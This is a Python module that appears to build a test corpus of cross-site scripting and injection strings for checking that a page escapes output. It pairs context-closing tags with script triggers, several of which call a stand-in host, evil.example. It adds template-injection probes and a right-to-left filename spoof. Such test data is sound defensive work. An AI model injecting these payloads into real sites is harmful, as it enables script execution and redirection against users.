"""Strings that run something when a page forgets to escape them.

Made by combining the classic forms (OWASP, XSS Filter Evasion Cheat Sheet): each closes one kind of context
and then tries one kind of trigger.
"""

from itertools import product

RUN = "window.ran=(window.ran||0)+1"
CLOSERS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "-->",
    "]]>",
    "</script>",
    "</style>",
    '"/><',
    "`>",
    "{{",
    "\x00",
)
TRIGGERS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<a href='javascript:{RUN}' autofocus onfocus={RUN}>x</a>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    "<style>@import 'https://evil.example/x.css'</style><p style='background:url(https://evil.example/x)'>",
    "<base href='https://evil.example/'><form action='https://evil.example/'><button>go</button></form>",
    f"<div hx-get='https://evil.example/' hx-trigger='load' hx-on:load='{RUN}'>x</div>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<math><mtext><mglyph><style><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
)
PLAIN = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>parent.{RUN}</script>",
    "vbscript:msgbox(1)",
    'https://evil.example/" onmouseover="x',
    "//evil.example/",
    "{{7*7}}",
    "{% for x in [].__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(x)s %s %d",
    "\u202eltr\u202c\u2066\u2069",
    "\u202egnp.exe",
    "A" * 5000,
    "\ud7ff\ufffe\u0000\u0008",
)
STRINGS = tuple(f"{closer}{trigger}" for closer, trigger in product(CLOSERS, TRIGGERS)) + PLAIN
